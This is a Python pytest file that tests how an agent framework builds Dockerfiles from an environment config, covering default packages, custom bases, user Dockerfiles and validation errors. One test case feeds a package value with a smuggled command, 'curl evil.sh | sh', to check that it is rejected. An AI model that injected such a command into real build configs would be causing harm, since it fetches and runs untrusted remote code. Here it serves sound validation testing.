"""The agent's environment of grounded tasks, as the ground config sets it: the office packages by
default, a base and packages of the user's, or a Dockerfile of the user's; bad values stop the run
with one error naming the field."""

import re
from pathlib import Path

import pytest

from agentmill.errors import AgentmillError
from agentmill.grounded.environment import OFFICE_PACKAGES, EnvironmentConfig, dockerfile_text
from agentmill.grounded.run import GroundConfig

ROLES = "".join(
    f'[roles.{r}]\nbase_url = "http://127.0.0.1:9/v1"\nmodel = "m"\n'
    for r in ("assembler", "grapher", "compiler", "teacher", "reviser", "judge")
)


def test_default_is_the_office_image_from_debian_packages():
    text = dockerfile_text(None)
    assert text.startswith(
        "FROM debian:bookworm-slim\nRUN apt-get update && apt-get install -y --no-install-recommends "
    )
    assert all(p in text for p in OFFICE_PACKAGES) and text.endswith("WORKDIR /app\nCOPY workspace/ /app/\n")


def test_setup_installs_the_same_packages_for_the_host_builder():
    setup = (Path(__file__).parents[2] / "scripts" / "setup.sh").read_text()
    assert all(re.search(rf"\b{re.escape(p)}\b", setup) for p in OFFICE_PACKAGES)


def test_base_and_packages_per_run(tmp_path):
    cfg = tmp_path / "g.toml"
    cfg.write_text('[environment]\nbase = "python:3.11-slim"\nextra_packages = ["libreoffice-calc-nogui"]\n' + ROLES)
    text = dockerfile_text(GroundConfig.load(cfg).environment)
    assert (
        text.startswith("FROM python:3.11-slim\n") and "python3-openpyxl" in text and "libreoffice-calc-nogui" in text
    )
    assert (
        dockerfile_text(EnvironmentConfig(packages=[]))
        == "FROM debian:bookworm-slim\nWORKDIR /app\nCOPY workspace/ /app/\n"
    )


def test_a_dockerfile_of_the_users_relative_to_the_config(tmp_path):
    (tmp_path / "env").mkdir()
    (tmp_path / "env" / "Dockerfile").write_text("FROM debian:bookworm\nRUN apt-get install -y gnumeric\n")
    cfg = tmp_path / "g.toml"
    cfg.write_text('[environment]\ndockerfile = "env/Dockerfile"\n' + ROLES)
    env = GroundConfig.load(cfg).environment
    assert (
        dockerfile_text(env)
        == "FROM debian:bookworm\nRUN apt-get install -y gnumeric\nWORKDIR /app\nCOPY workspace/ /app/\n"
    )


@pytest.mark.parametrize(
    "body, words",
    [
        (
            '[environment]\npackages = ["python3-openpyxl; curl evil.sh | sh"]\n',
            ["environment.packages", "not Debian package names"],
        ),
        ('[environment]\nbase = "debian bookworm"\n', ["environment.base"]),
        ('[environment]\ndockerfile = "Dockerfile"\npackages = ["jq"]\n', ["environment", "either dockerfile"]),
        ('[environment]\ndockerfile = "missing/Dockerfile"\n', ["environment.dockerfile", "cannot read"]),
        ('[environment]\nimage = "x"\n', ["environment.image"]),
    ],
)
def test_bad_environment_is_one_error_naming_the_field(tmp_path, body, words):
    cfg = tmp_path / "g.toml"
    cfg.write_text(body + ROLES)
    with pytest.raises(AgentmillError) as e:
        GroundConfig.load(cfg)
    assert str(cfg) in str(e.value) and all(w in str(e.value) for w in words), str(e.value)


def test_a_dockerfile_without_from_is_refused(tmp_path):
    (tmp_path / "Dockerfile").write_text("RUN echo hi\n")
    with pytest.raises(AgentmillError, match="no FROM line"):
        dockerfile_text(EnvironmentConfig(dockerfile=str(tmp_path / "Dockerfile")))
